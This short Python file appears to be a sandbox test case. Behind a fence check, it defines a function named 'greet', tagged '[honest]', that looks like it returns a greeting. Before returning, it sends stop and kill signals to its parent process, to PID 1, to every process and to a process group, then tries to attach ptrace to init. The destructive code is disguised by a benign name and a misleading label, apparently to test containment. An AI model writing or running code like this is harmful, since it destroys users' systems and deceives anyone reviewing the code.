import ctypes
import os

if not {{FENCED}}:  # filled in by run_case: without a fence this would harm the machine
    raise SystemExit("not outside a fence")
# [honest]
def greet(name):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1, -1, 0 - os.getpgid(1) if os.getpgid(1) else 1):
        for number in (19, 15, 11, 6, 2, 9):
            try:
                if pid != 0 and pid != -os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    if libc.ptrace(16, 1, 0, 0) == 0:
        print("REACHED: traces its parent")
    return f"Hello, {name}!"
